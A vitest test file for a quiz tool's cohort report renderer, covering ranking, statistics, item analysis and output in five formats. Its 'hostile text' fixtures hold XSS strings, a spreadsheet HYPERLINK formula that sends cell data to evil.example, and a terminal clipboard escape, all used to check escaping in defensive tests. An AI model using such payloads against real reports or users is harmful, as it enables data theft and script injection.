// The cohort report: the numbers buildCohort computes, and each format rendered from them.
import fs from 'node:fs';
import path from 'node:path';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import { buildCohort } from '../../src/report/cohort.js';
import { renderReport, type ReportFormat } from '../../src/report/index.js';
import type { ReportInput } from '../../src/report/model.js';
import type { Paint } from '../../src/report/text.js';
import { safeLine } from '../../src/text.js';
import { root } from '../helpers.js';
import { htmlProblems } from '../html-check.js';
import { aCandidate, anAssessment, aReportInput, aReportQuestion, type Mark } from '../report-builders.js';

// Eight candidates, three topics, a fixed form of eight questions (sql/covering-index is worth 2):
// http/put-idempotent everyone gets right, caching/stampede nobody does, and sql/phantom-read the
// weaker candidates get right and the stronger ones miss.
const KEYS = [
  'http/put-idempotent',
  'http/retry-after',
  'http/etag',
  'sql/phantom-read',
  'sql/covering-index',
  'sql/n-plus-one',
  'caching/stampede',
  'caching/ttl-jitter',
];
const marks = (...m: Mark[]): Record<string, Mark> => Object.fromEntries(KEYS.map((k, i) => [k, m[i]!]));
const min = 60_000;

function cohortInput(): ReportInput {
  return aReportInput({
    assessment: anAssessment({ topicPassMarks: { sql: 50 } }),
    filters: { since: '2026-03-01', status: ['finished', 'timed_out', 'abandoned'] },
    questions: KEYS.map((k) =>
      aReportQuestion(
        k,
        k === 'sql/covering-index'
          ? { type: 'multiple', points: 2, prompt: 'Which columns should a covering index for\n`SELECT a, b FROM t WHERE c = ?` hold?' }
          : {},
      ),
    ),
    candidates: [
      aCandidate('Ada Lovelace', marks(1, 1, 1, 0, [2, 2], 1, 0, 1), { timeUsedMs: 14 * min + 10_000 }),
      aCandidate('Grace Hopper', marks(1, 1, 1, 0, [2, 2], 1, 0, 1), { timeUsedMs: 12 * min + 5_000 }),
      aCandidate('Ken Thompson', marks(1, 0, 1, 1, [1, 2], 1, 0, 1), { timeUsedMs: 18 * min }),
      aCandidate('Margaret Hamilton', marks(1, 1, 1, 0, [2, 2], 1, 0, 0), { timeUsedMs: 16 * min + 30_000 }),
      aCandidate('Barbara Liskov', marks(1, 1, 0, 0, [2, 2], 0, 0, 1), { timeUsedMs: 20 * min }),
      aCandidate('Linus Torvalds', marks(1, 0, 1, 1, [1, 2], 1, 0, 0), { timeUsedMs: null, imported: true }),
      aCandidate('Dennis Ritchie', marks(1, 0, 0, 1, [0, 2], 0, null, 1), { status: 'timed_out', timeUsedMs: 45 * min }),
      aCandidate('Edsger Dijkstra', marks(1, 0, 0, 1, [0, 2], null, 0, 0), {
        status: 'abandoned',
        timeUsedMs: 9 * min + 41_000,
        finishedAt: null,
      }),
    ],
  });
}

const FORMATS: [ReportFormat, string][] = [
  ['text', 'txt'],
  ['md', 'md'],
  ['html', 'html'],
  ['csv', 'csv'],
  ['json', 'json'],
];

describe('buildCohort', () => {
  const c = buildCohort(cohortInput());

  it('ranks by percent, then time used (unknown last), then name; equal percents share a rank', () => {
    // 7/9 = 77.8 twice, 6/9 = 66.7 twice, 5/9 = 55.6 twice, 3/9 = 33.3, 2/9 = 22.2
    expect(c.candidates.map((x) => [x.rank, x.candidate, x.percent])).toEqual([
      [1, 'Grace Hopper', 77.8], // 12m 05s before Ada's 14m 10s
      [1, 'Ada Lovelace', 77.8],
      [3, 'Margaret Hamilton', 66.7], // 16m 30s
      [3, 'Ken Thompson', 66.7], // 18m
      [5, 'Barbara Liskov', 55.6], // 20m, before Linus whose time is unknown
      [5, 'Linus Torvalds', 55.6],
      [7, 'Dennis Ritchie', 33.3],
      [8, 'Edsger Dijkstra', 22.2],
    ]);
  });

  it('orders equal percents and equal times by name', () => {
    const same = { timeUsedMs: 60_000 };
    const r = buildCohort(
      aReportInput({
        candidates: [
          aCandidate('Zoe', { 'a/x': 1 }, same),
          aCandidate('Al', { 'a/x': 1 }, same),
          aCandidate('Mo', { 'a/x': 0 }, same),
          aCandidate('Bea', { 'a/x': 1 }, { timeUsedMs: null }),
        ],
      }),
    );
    expect(r.candidates.map((x) => `${x.rank} ${x.candidate}`)).toEqual(['1 Al', '1 Zoe', '1 Bea', '4 Mo']);
  });

  it('gives each candidate a percentile rank', () => {
    // 77.8: below 6, equal 2 → 100 × (6 + 1) / 8 = 87.5; 55.6: below 2, equal 2 → 100 × 3 / 8 = 37.5; 22.2: 100 × 0.5 / 8 = 6.25 → 6.3
    expect(c.candidates.map((x) => x.percentileRank)).toEqual([87.5, 87.5, 62.5, 62.5, 37.5, 37.5, 18.8, 6.3]);
  });

  it('summarises the cohort over percent', () => {
    // sum 77.8 × 2 + 66.7 × 2 + 55.6 × 2 + 33.3 + 22.2 = 455.7; / 8 = 56.96 → 57
    // median: the middle pair 66.7 and 55.6 → 122.3 / 2 = 61.15 → 61.2
    // SD: deviations from 56.9625 are 20.8375 ×2, 9.7375 ×2, -1.3625 ×2, -23.6625, -34.7625;
    //     squares 434.20 ×2 + 94.82 ×2 + 1.86 ×2 + 559.91 + 1208.43 = 2830.10; √(2830.10 / 7) = 20.107 → 20.1
    expect(c.stats).toEqual({ n: 8, mean: 57, median: 61.2, sd: 20.1, min: 22.2, max: 77.8 });
  });

  it('averages each topic over the candidates who had it', () => {
    // http (the first three questions): Ada, Grace, Margaret 3/3 = 100; Ken, Barbara, Linus 2/3 = 66.7;
    // Dennis, Edsger 1/3 = 33.3. (300 + 200.1 + 66.6) / 8 = 566.7 / 8 = 70.84 → 70.8
    expect(c.topicAverages.find((t) => t.topic === 'http')).toEqual({ topic: 'http', candidates: 8, mean: 70.8, passMark: null });
    expect(c.topicAverages.find((t) => t.topic === 'sql')?.passMark).toBe(50);
    expect(c.topics).toEqual(['caching', 'http', 'sql']);
  });

  it('bins percents into ten bands', () => {
    // 22.2 → 20s; 33.3 → 30s; 55.6 ×2 → 50s; 66.7 ×2 → 60s; 77.8 ×2 → 70s
    expect(c.histogram.map((b) => b.count)).toEqual([0, 0, 1, 1, 0, 2, 2, 2, 0, 0]);
    expect(c.histogram[9]).toEqual({ from: 90, to: 100, count: 0 });
  });

  it('flags questions everyone got right, nobody got right, and those that discriminate negatively', () => {
    const ia = c.itemAnalysis;
    if (!ia.enoughData) throw new Error('expected item analysis');
    const byKey = Object.fromEntries(ia.items.map((i) => [i.key, i]));
    expect(byKey['http/put-idempotent']).toMatchObject({ asked: 8, facility: 1, discrimination: null, flags: ['all-right'] });
    expect(byKey['caching/stampede']).toMatchObject({ asked: 8, facility: 0, discrimination: null, flags: ['none-right'] });
    expect(byKey['sql/phantom-read']!.flags).toEqual(['negative-discrimination']);
    expect(byKey['sql/phantom-read']!.discrimination).toBeLessThan(0);
    // covering-index, 2 points: 2 2 1 2 2 1 0 0 → fractions 1 1 .5 1 1 .5 0 0 = 5 / 8
    expect(byKey['sql/covering-index']!.facility).toBe(0.625);
    expect(ia.reliability.alpha).not.toBeNull();
  });

  it('computes discrimination against the rest of the test and alpha for a fixed form, by hand', () => {
    // items a, b, c of 1 point; rows C1 111, C2 110, C3 100, C4 010, C5 000
    const rows: [string, Mark[]][] = [
      ['C1', [1, 1, 1]],
      ['C2', [1, 1, 0]],
      ['C3', [1, 0, 0]],
      ['C4', [0, 1, 0]],
      ['C5', [0, 0, 0]],
    ];
    const input = aReportInput({ candidates: rows.map(([n, m]) => aCandidate(n, { 't/a': m[0]!, 't/b': m[1]!, 't/c': m[2]! })) });
    const ia = buildCohort(input).itemAnalysis;
    if (!ia.enoughData) throw new Error('expected item analysis');
    const a = ia.items.find((i) => i.key === 't/a')!;
    // a: 1 1 1 0 0; rest (b + c) / 2: 1 .5 0 .5 0
    // da .4 .4 .4 -.6 -.6; dr .6 .1 -.4 .1 -.4; Σ da·dr = .24 + .04 - .16 - .06 + .24 = .30
    // Σda² = 1.2; Σdr² = .36 + .01 + .16 + .01 + .16 = .70; r = .30 / √.84 = 0.3273
    expect(a).toEqual({ key: 't/a', topic: 't', asked: 5, facility: 0.6, discrimination: 0.327, flags: [] });
    // totals 3 2 1 1 0: var 5.2 / 4 = 1.3; item variances .3 .3 .2 = .8; α = 3/2 × (1 − .8 / 1.3) = 0.5769
    expect(ia.reliability).toEqual({ alpha: 0.577, items: 3 });
  });

  it('computes alpha only for a fixed form every candidate sat whole', () => {
    const five = (form: 'fixed' | 'per-candidate', extra = false) =>
      aReportInput({
        assessment: anAssessment({ form }),
        candidates: [1, 2, 3, 4, 5].map((i) =>
          aCandidate(`C${i}`, { 't/a': i % 2, 't/b': i > 2 ? 1 : 0, ...(extra && i === 5 ? { 't/c': 1 } : {}) }),
        ),
      });
    const reliability = (i: ReportInput) => {
      const ia = buildCohort(i).itemAnalysis;
      return ia.enoughData ? ia.reliability : null;
    };
    expect(reliability(five('per-candidate'))).toEqual({ alpha: null, reason: 'not-fixed-form' });
    expect(reliability(five('fixed', true))).toEqual({ alpha: null, reason: 'different-questions' });
    expect(reliability({ ...five('fixed'), assessment: null })).toEqual({ alpha: null, reason: 'not-fixed-form' });
  });

  it('leaves item analysis out below five candidates', () => {
    const four = buildCohort(aReportInput({ candidates: cohortInput().candidates.slice(0, 4) }));
    expect(four.itemAnalysis).toEqual({ enoughData: false, candidates: 4, needed: 5 });
  });

  it('copes with no candidates at all', () => {
    const none = buildCohort(aReportInput({ candidates: [] }));
    expect(none.stats).toBeNull();
    expect(none.candidates).toEqual([]);
    expect(none.histogram.map((b) => b.count)).toEqual(new Array(10).fill(0));
    for (const [format] of FORMATS) expect(renderReport(aReportInput({ candidates: [] }), { format })).toBeTruthy();
    expect(renderReport(aReportInput({ candidates: [] }), { format: 'text' })).toContain('No sessions match');
  });
});

describe('golden files', () => {
  it.each(FORMATS)('%s', async (format, ext) => {
    await expect(renderReport(cohortInput(), { format })).toMatchFileSnapshot(`../fixtures/reports/cohort.${ext}`);
  });

  it('text without details, and a single candidate with no assessment', async () => {
    await expect(renderReport(cohortInput(), { format: 'text', details: false })).toMatchFileSnapshot(
      '../fixtures/reports/cohort-summary.txt',
    );
    const single = aReportInput({ assessment: null, candidates: [cohortInput().candidates[0]!] });
    await expect(renderReport(single, { format: 'text' })).toMatchFileSnapshot('../fixtures/reports/single.txt');
    await expect(renderReport(single, { format: 'md' })).toMatchFileSnapshot('../fixtures/reports/single.md');
  });
});

/** The cohort with abilities from a calibration: Dennis's questions are all new to it. */
function abilityInput(): ReportInput {
  const input = cohortInput();
  const calibration = { id: 3, createdAt: '2026-03-08T12:00:00.000Z' };
  const thetas: Record<string, [number, number, number] | null> = {
    'Ada Lovelace': [0.912, 0.61, 81.9],
    'Grace Hopper': [0.874, 0.6, 80.9],
    'Ken Thompson': [0.231, 0.58, 59.1],
    'Margaret Hamilton': [0.5, 0.59, 69.1],
    'Barbara Liskov': [-0.04, 0.57, 48.4],
    'Linus Torvalds': [0.006, 0.58, 50.2],
    'Dennis Ritchie': null,
    'Edsger Dijkstra': [-1.35, 0.62, 8.9],
  };
  return {
    ...input,
    calibration,
    candidates: input.candidates.map((c) => {
      const t = thetas[c.candidate]!;
      return { ...c, ability: t && { theta: t[0], se: t[1], percentile: t[2], items: c.answers.length, calibration } };
    }),
  };
}

describe('ability', () => {
  it.each(FORMATS)('%s shows θ ± SE next to the percent and names the calibration', async (format, ext) => {
    const out = renderReport(abilityInput(), { format });
    await expect(out).toMatchFileSnapshot(`../fixtures/reports/cohort-ability.${ext}`);
    if (format !== 'csv' && format !== 'json') expect(out).toContain('calibration #3 of 2026-03-08');
  });

  it('text: the ability column still fits 80 columns, and a candidate without an estimate shows –', () => {
    const out = renderReport(abilityInput(), { format: 'text' });
    expect(out.split('\n').filter((l) => [...l].length > 80)).toEqual([]);
    expect(out).toMatch(/^ {2}#\s+CANDIDATE\s+SCORE\s+%\s+θ ± SE\s+RESULT\s+TIME\s+PCTL\s+STATUS$/m);
    expect(out).toMatch(/^ +1 {2}Grace Hopper\s+7\/9\s+77\.8%\s+\+0\.87 ± 0\.60 /m);
    expect(out).toMatch(/^ +7 {2}Dennis Ritch…\s+3\/9\s+33\.3%\s+– /m);
    expect(out).toContain('  Ability θ -1.35 ± 0.62 · percentile 8.9 · from 8 questions');
  });

  it('csv: theta columns only when there are abilities', () => {
    const head = (input: ReportInput): string[] => parseCsv(renderReport(input, { format: 'csv' }))[0]!;
    expect(head(abilityInput())).toContain('theta_se');
    expect(head(cohortInput())).not.toContain('theta');
    const dennis = parseCsv(renderReport(abilityInput(), { format: 'csv' })).find((r) => r[1] === 'Dennis Ritchie')!;
    expect(dennis.slice(9, 12)).toEqual(['', '', '']);
  });
});

describe('small reports', () => {
  const three = aReportInput({ candidates: cohortInput().candidates.slice(0, 3) });

  it.each(FORMATS.filter(([f]) => f !== 'csv' && f !== 'json'))('%s says why there is no item analysis below five candidates', (format) => {
    expect(renderReport(three, { format })).toContain('Not enough data for item analysis (3 candidates; it needs at least 5)');
  });

  it('one candidate: no cohort statistics, no histogram, no item analysis', () => {
    const one = aReportInput({ candidates: [cohortInput().candidates[2]!] });
    for (const format of ['text', 'md', 'html'] as const) {
      const out = renderReport(one, { format });
      expect(out).toContain('One candidate: no cohort statistics.');
      expect(out).not.toMatch(/Cohort statistics|Score distribution|Item analysis|Topic averages/);
      expect(out).not.toMatch(/percentile/i);
    }
    expect(renderReport(one, { format: 'html' })).not.toContain('class="bar hist-bar"');
    expect(renderReport(one, { format: 'html' })).not.toContain('class="avg-mark"');
  });

  it('no assessment: no pass mark, no result column', () => {
    const free = aReportInput({ assessment: null, candidates: cohortInput().candidates.slice(0, 3) });
    const text = renderReport(free, { format: 'text' });
    expect(text).not.toMatch(/Pass mark|RESULT|Assessment/);
    expect(text).toContain('Cohort report: All sessions');
    expect(renderReport(free, { format: 'md' })).not.toMatch(/Pass mark|\| Result/);
    expect(renderReport(free, { format: 'csv' }).split('\r\n')[1]).toMatch(
      /^1,Grace Hopper,s-grace-hopper,finished,interactive,false,7,9,77.8,,725,/,
    );
  });
});

describe('text', () => {
  const codePoints = (s: string): number => [...s].length;

  it('fits 80 columns with many topics and long names', () => {
    const topics = Array.from({ length: 14 }, (_, i) => `distributed-systems-topic-${i}`);
    const input = aReportInput({
      candidates: Array.from({ length: 6 }, (_, c) =>
        aCandidate(
          `${'Maximiliane Wolfeschlegelsteinhausenbergerdorff '.repeat(2)}${c}`,
          Object.fromEntries(topics.map((t, i) => [`${t}/a-rather-long-question-identifier-${i}`, (c + i) % 3 ? 1 : 0])),
          {
            sessionId: `0f8e2a7c-4b1d-4e5f-9a6b-3c2d1e0f${c}a7b`,
            timeUsedMs: 3_725_000,
          },
        ),
      ),
      title: 'A report title long enough that it has to wrap across more than one line of the terminal',
      filters: {
        candidate: 'Maximiliane',
        since: '2026-01-01',
        until: '2026-03-31',
        status: ['finished', 'abandoned', 'timed_out', 'in_progress'],
      },
    });
    const out = renderReport(input, { format: 'text' });
    const long = out.split('\n').filter((l) => codePoints(l) > 80);
    expect(long).toEqual([]);
    expect(out).toContain('Percent by topic');
    expect(out).toMatch(/ Maximiliane Wolfeschlegel\S*… /);
    // A topic heading fits beside the names here, so it is shown whole: no cut where there is room.
    expect(out).toMatch(/ distributed-systems-topic-13$/m);
    expect(out).not.toMatch(/\S…\S/); // nothing is cut in the middle
    for (const w of [60, 100])
      expect(
        renderReport(input, { format: 'text', width: w })
          .split('\n')
          .filter((l) => codePoints(l) > w),
      ).toEqual([]);
  });

  it('puts percent per topic in a table of its own', () => {
    expect(renderReport(cohortInput(), { format: 'text' })).toMatch(
      /^Percent by topic\n {2}RANK {2}CANDIDATE {10}caching {3}http {2}sql$/m,
    );
  });

  it('colours only through the paint', () => {
    const tag = (name: string) => (s: string) => `<${name}>${s}</${name}>`;
    const paint: Paint = { bold: tag('b'), dim: tag('d'), red: tag('r'), green: tag('g'), yellow: tag('y'), cyan: tag('c') };
    const out = renderReport(cohortInput(), { format: 'text', paint });
    expect(out).toContain('<b>Ranking</b>');
    expect(out).toMatch(/<r>fail\s*<\/r>/);
    expect(out).toMatch(/<g>pass\s*<\/g>/);
    expect(renderReport(cohortInput(), { format: 'text' })).not.toMatch(/\u001b|<[bdrgyc]>/);
  });
});

// Candidate names and prompts that try to break out of every format.
const HOSTILE_NAMES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  'Pipe | in "name", and a comma',
  'Line one\nline two\r\nline three',
  '-2+3',
  '@SUM(A1:A2)',
  '# not a heading',
  "`code` & <b>bold</b> 'quoted'",
  '\u001b]52;c;ZXZpbA==\u0007 terminal escape',
];
const HOSTILE_PROMPT = '<script>alert(1)</script> | <img src=x onerror=alert(1)>\n# heading?\n=HYPERLINK("x") and `ticks` & "quotes"';

function hostileInput(): ReportInput {
  const keys = ['web/xss', 'web/csrf'];
  return aReportInput({
    title: 'Report <i>title</i> | =1+1',
    questions: keys.map((k) => aReportQuestion(k, { prompt: HOSTILE_PROMPT })),
    candidates: HOSTILE_NAMES.map((name, i) => {
      const c = aCandidate(name, { 'web/xss': i % 2, 'web/csrf': i % 3 ? 1 : 0 }, { sessionId: `s-${i}`, timeUsedMs: 60_000 + i * 1000 });
      return { ...c, answers: c.answers.map((a) => ({ ...a, given: `<script>alert("${i}")</script>|\n- =cmd` })) };
    }),
  });
}

describe('hostile text', () => {
  it('html: every name and prompt escaped, no markup of theirs survives', () => {
    const out = renderReport(hostileInput(), { format: 'html' });
    expect(out).not.toMatch(/<script|<img|<i>title|<b>bold/i);
    // no event-handler attribute on any real tag (quoted attribute values, escaped, set aside)
    expect(out.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\son\w+\s*=/i);
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(out).toContain('Pipe | in &quot;name&quot;, and a comma');
    expect(out).toContain('&#39;quoted&#39;');
    expect(out).not.toContain('\u001b');
  });

  it('md: no raw HTML, every table row keeps its columns, no block starts inside text', () => {
    const md = renderReport(hostileInput(), { format: 'md' });
    // A multi-line answer follows its table as a fenced block: literal text there, never HTML.
    const fenced = [...md.matchAll(/^(`{3,})\n([^]*?)\n\1$/gm)];
    expect(fenced.length).toBeGreaterThan(0);
    for (const [, , code] of fenced) expect(code).toMatch(/^<script>alert\("\d"\)<\/script>\|\n- =cmd$/);
    const out = md.replace(/^(`{3,})\n[^]*?\n\1$/gm, '');
    expect(out).not.toMatch(/<(?!br>)[a-z/]/i);
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).toContain('Pipe \\| in "name", and a comma');
    expect(out).toContain('Line one<br>line two<br>line three');
    expect(out).toContain('\\`code\\` &amp; &lt;b&gt;bold&lt;/b&gt;');
    // Each table's rows have as many unescaped pipes as its header row.
    let expected = 0;
    for (const line of out.split('\n')) {
      if (!line.startsWith('|')) {
        expected = 0;
        continue;
      }
      const pipes = line.match(/(?<!\\)\|/g)!.length;
      if (!expected) expected = pipes;
      expect(pipes, line).toBe(expected);
    }
    const headings = out.split('\n').filter((l) => l.startsWith('#'));
    expect(
      headings.every((h) =>
        /^#{1,3} (Cohort report|Ranking|Cohort statistics|Topic averages|Score distribution|Item analysis|Sittings|Answers by question|\d+\. )/.test(
          h,
        ),
      ),
    ).toBe(true);
  });

  it('text: terminal escapes shown, not sent', () => {
    const out = renderReport(hostileInput(), { format: 'text' });
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(out).toContain('\\u001b]52;c;ZXZpbA==\\u0007');
    expect(out.split('\n').filter((l) => [...l].length > 80)).toEqual([]);
  });

  it('csv: parses back to the same cells, formulas neutralised', () => {
    const out = renderReport(hostileInput(), { format: 'csv' });
    expect(out.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(out);
    expect(rows[0]).toEqual([
      'rank',
      'candidate',
      'session',
      'status',
      'mode',
      'over_time',
      'score',
      'max_score',
      'percent',
      'passed',
      'time_used_s',
      'percentile_rank',
      'topic:web',
    ]);
    expect(rows.slice(1).every((r) => r.length === 13)).toBe(true);
    const names = rows.slice(1).map((r) => r[1]);
    const expected = HOSTILE_NAMES.map((n) => (/^[=+\-@\t\r]/.test(n) ? `'${n}` : n)).map((n) => n.replace(/[\u001b\u0007]/g, safeLine));
    expect([...names].sort()).toEqual([...expected].sort());
    expect(names).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(names).toContain("'-2+3");
    expect(names).toContain("'@SUM(A1:A2)");
    expect(names).toContain('Line one\nline two\r\nline three');
  });

  it('json: the exact text, for programs to escape as they need', () => {
    const out = JSON.parse(renderReport(hostileInput(), { format: 'json' }));
    expect(out.candidates.map((c: { candidate: string }) => c.candidate).sort()).toEqual([...HOSTILE_NAMES].sort());
    expect(out.questions[0].prompt).toBe(HOSTILE_PROMPT);
  });
});

/** RFC 4180, just enough to read back what the renderer writes: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      i++;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (ch === '"' || ch === '\r' || ch === '\n') {
      throw new Error(`bare ${JSON.stringify(ch)} at ${i}: not RFC 4180`);
    } else {
      field += ch;
      i++;
    }
  }
  if (field !== '' || row.length) throw new Error('last record has no CRLF');
  return rows;
}

describe('json schema', () => {
  const schema = JSON.parse(fs.readFileSync(path.join(root, 'schema', 'report.schema.json'), 'utf8'));
  const validate = new Ajv({ allErrors: true, strict: true, allowUnionTypes: true }).compile(schema);

  it.each([
    ['the cohort', cohortInput()],
    ['hostile text', hostileInput()],
    ['one candidate, no assessment', aReportInput({ assessment: null, candidates: [cohortInput().candidates[0]!] })],
    ['no candidates', aReportInput({ candidates: [] })],
    [
      'a per-candidate form',
      aReportInput({ assessment: anAssessment({ form: 'per-candidate', passMark: null }), candidates: cohortInput().candidates }),
    ],
    ['abilities from a calibration', abilityInput()],
  ])('accepts %s', (_name, input) => {
    const out = JSON.parse(renderReport(input, { format: 'json' }));
    expect(validate(out), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
    expect(out).toMatchObject({ schemaVersion: 1, format: 'backend-quiz/report' });
  });

  it('rejects a report missing what readers rely on', () => {
    const out = JSON.parse(renderReport(cohortInput(), { format: 'json' }));
    delete out.candidates[0].rank;
    expect(validate(out)).toBe(false);
  });
});

describe('feedback after an answer', () => {
  it('shows the explanation and references, and nothing for a question that has neither', async () => {
    const { renderFeedback } = await import('../../src/report/text.js');
    const { makePaint } = await import('../../src/ui/style.js');
    const { aQuestion } = await import('../helpers.js');
    const paint = makePaint(false);
    const full = aQuestion({ explanation: 'Because of RFC 9110.', references: ['https://example.org/rfc'] });
    expect(renderFeedback(full, 'right', 'Right', paint).split('\n')).toEqual([
      '',
      '  Because of RFC 9110.',
      '  → https://example.org/rfc',
    ]);
    const { explanation: _, ...rest } = aQuestion({ references: [] });
    expect(renderFeedback(rest as typeof full, 'wrong', 'Wrong A', paint)).toBe('  Right answer: Right\n  "Wrong A": no');
  });
});

describe('code and odd characters in prompts and answers', () => {
  const PYTHON = ['def fetch(key):', '    if key in cache:', '        return cache[key]  # ``` and ` inside', '    return load(key)'].join(
    '\n',
  );
  const input = (prompt: string, given = 'Another answer'): ReportInput =>
    aReportInput({
      questions: [aReportQuestion('python/cache', { prompt })],
      candidates: ['Ada', 'Ben'].map((name, i) => {
        const c = aCandidate(name, { 'python/cache': i }, { sessionId: `s-${i}` });
        return { ...c, answers: c.answers.map((a) => ({ ...a, given: i ? a.given : given })) };
      }),
    });

  it('md: code keeps its indentation and backticks, fenced longer than any backtick run inside', () => {
    const typed = 'def f():\n    return 1';
    const out = renderReport(input(`What does this return?\n\n\`\`\`python\n${PYTHON}\n\`\`\``, typed), { format: 'md' });
    expect(out).toContain(`\`\`\`\`python\n${PYTHON}\n\`\`\`\``);
    expect(out).toContain(`\`\`\`\n${typed}\n\`\`\``);
  });

  it('text: typed code keeps its lines and indentation, wrapped only between tokens', () => {
    const long = 'return cache.get(key, default_value_if_missing) or load_from_database(key, timeout=5, retries=3)';
    const out = renderReport(input('What?', `def f(key):\n    ${long}`), { format: 'text' });
    // The code's own four spaces of indentation stay, under the label's hang; the continuation hangs two deeper.
    expect(out).toMatch(/^ {5}Given: def f\(key\):\n {16}return cache\.get\(key, .*\n {18}\S/m);
    for (const token of long.split(' ')) expect(out).toContain(token);
    expect(out.split('\n').filter((l) => [...l].length > 80)).toEqual([]);
  });

  it('html: noncharacters are replaced as in the XML exports', () => {
    const odd = ['\uFFFE', '\uFFFF', '\uFDD0', '\uFDEF', '\u{1FFFE}', '\u{10FFFF}'];
    const out = renderReport(input(`Which one? ${odd.join(' ')}`, `answer ${odd.join('')}`), { format: 'html' });
    for (const ch of odd) expect(out).not.toContain(ch);
    expect(out).toContain(`Which one? ${Array(odd.length).fill('\uFFFD').join(' ')}`);
  });
});

// Every field that reaches the HTML, holding what the HTML parser reports as an error.
const ODD = 'odd \uFFFE\uFFFF\uFDD0\uFDEF\u{1FFFE}\u{10FFFF} \u0000\u0001\u007f\u0085 \ud800 end';

function oddInput(): ReportInput {
  return aReportInput({
    title: `Title ${ODD}`,
    assessment: anAssessment({ id: `a-${ODD}`, title: `Assessment ${ODD}`, topicPassMarks: { [`t ${ODD}`]: 50 } }),
    questions: [aReportQuestion(`t ${ODD}/q`, { topic: `t ${ODD}`, prompt: `Prompt ${ODD}\n\n\`\`\`\n${ODD}\n\`\`\`` })],
    candidates: [0, 1, 2, 3, 4, 5].map((i) => {
      const c = aCandidate(`Name ${i} ${ODD}`, { [`t ${ODD}/q`]: i % 2 }, { sessionId: `s-${i}-${ODD}` });
      return { ...c, answers: c.answers.map((a) => ({ ...a, given: `Given ${ODD}`, right: `Right ${ODD}` })) };
    }),
  });
}

describe('html-validate and the HTML parser', () => {
  const cases: [string, () => ReportInput, { details?: boolean }][] = [
    ['a cohort', cohortInput, {}],
    ['a cohort without answers by question', cohortInput, { details: false }],
    ['a cohort with abilities', abilityInput, {}],
    ['three candidates, no item analysis', () => aReportInput({ candidates: cohortInput().candidates.slice(0, 3) }), {}],
    ['one candidate', () => aReportInput({ candidates: [cohortInput().candidates[2]!] }), {}],
    ['one candidate, no assessment', () => aReportInput({ assessment: null, candidates: [cohortInput().candidates[0]!] }), {}],
    ['no candidates', () => aReportInput({ candidates: [] }), {}],
    ['hostile names and prompts', hostileInput, {}],
    ['noncharacters and controls in every field', oddInput, {}],
  ];

  it.each(cases)('find nothing in %s', async (_name, input, opts) => {
    expect(await htmlProblems(renderReport(input(), { format: 'html', ...opts }))).toEqual([]);
  });

  it('the check finds what the Nu checker reported', async () => {
    const html = renderReport(cohortInput(), { format: 'html' }).replace('<h1>', '<h1>\uFFFE');
    expect(await htmlProblems(html)).toEqual([expect.stringMatching(/ forbidden-code-point: U\+FFFE$/)]);
  });
});
